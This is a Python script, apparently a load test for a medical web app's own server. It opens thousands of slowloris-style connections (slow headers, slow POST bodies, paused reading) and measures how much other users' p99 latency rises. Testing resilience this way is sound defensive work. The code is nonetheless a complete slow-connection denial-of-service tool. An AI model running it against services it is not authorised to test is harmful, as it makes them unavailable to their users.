"""Thousands of connections that are slow with their headers, their bodies, or with reading; what others notice of it.

    python3 script/attack/slow.py BASE [CONNECTIONS]

Prints, for each kind, the 99th percentile of others' answers alone and during the attack, and their ratio.
"""

import asyncio
import resource
import sys
import time
from urllib.parse import urlsplit

BASE = urlsplit(sys.argv[1])
CONNECTIONS = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
ASKED = 400
PATHS = ["/api/doctors/?limit=3", "/api/ai/scores/", "/about"]


def heads(kind: str, n: int) -> bytes:
    common = f"Host: {BASE.netloc}\r\nUser-Agent: slow-{n}\r\n"
    if kind == "headers":
        return f"GET /about HTTP/1.1\r\n{common}".encode()
    if kind == "body":
        json = "Content-Type: application/json\r\nContent-Length: 8000\r\n\r\n{"
        return f"POST /api/ai/assess-risk/ HTTP/1.1\r\n{common}{json}".encode()
    return f"GET /api/openapi.json HTTP/1.1\r\n{common}\r\n".encode() * 8


async def slow(kind: str, n: int, until: float, kept: list) -> None:
    """Connects again whenever it is sent away."""
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(BASE.hostname, BASE.port, limit=64), 20)
            if kind == "read":
                writer.transport.pause_reading()
            writer.write(heads(kind, n))
            kept[0] += 1
            try:
                while time.monotonic() < until:
                    await asyncio.sleep(2)
                    if kind == "headers":
                        writer.write(f"X-{n}: a\r\n".encode())
                    elif kind == "body":
                        writer.write(b" ")
                    elif reader.at_eof():
                        break
                    if writer.transport.is_closing():
                        break
            finally:
                kept[0] -= 1
                writer.transport.abort()
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.5)


async def ask(path: str) -> float:
    begun = time.perf_counter()
    reader, writer = await asyncio.open_connection(BASE.hostname, BASE.port)
    writer.write(f"GET {path} HTTP/1.1\r\nHost: {BASE.netloc}\r\nConnection: close\r\n\r\n".encode())
    answer = await asyncio.wait_for(reader.read(-1), 20)
    writer.close()
    if not answer.startswith(b"HTTP/1.1 200"):
        raise SystemExit(f"{path} was answered {answer[:80]!r}")
    return time.perf_counter() - begun


async def others() -> float:
    """The 99th percentile of answers to somebody who asks one after the other."""
    times = sorted([await ask(PATHS[n % len(PATHS)]) for n in range(ASKED)])
    return times[int(len(times) * 0.99) - 1] * 1000


async def main() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    await others()
    for kind in ["headers", "body", "read"]:
        alone = await others()
        kept, until = [0], time.monotonic() + 45
        tasks = [asyncio.create_task(slow(kind, n, until, kept)) for n in range(CONNECTIONS)]
        while kept[0] < CONNECTIONS * 0.95 and time.monotonic() < until - 30:
            await asyncio.sleep(0.2)
        open_before = kept[0]
        during = await others()
        print(f"slow {kind}: {open_before} to {kept[0]} connections, p99 {alone:.1f} ms alone, {during:.1f} ms during, ratio {during / alone:.2f}", flush=True)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        await asyncio.sleep(3)


asyncio.run(main())
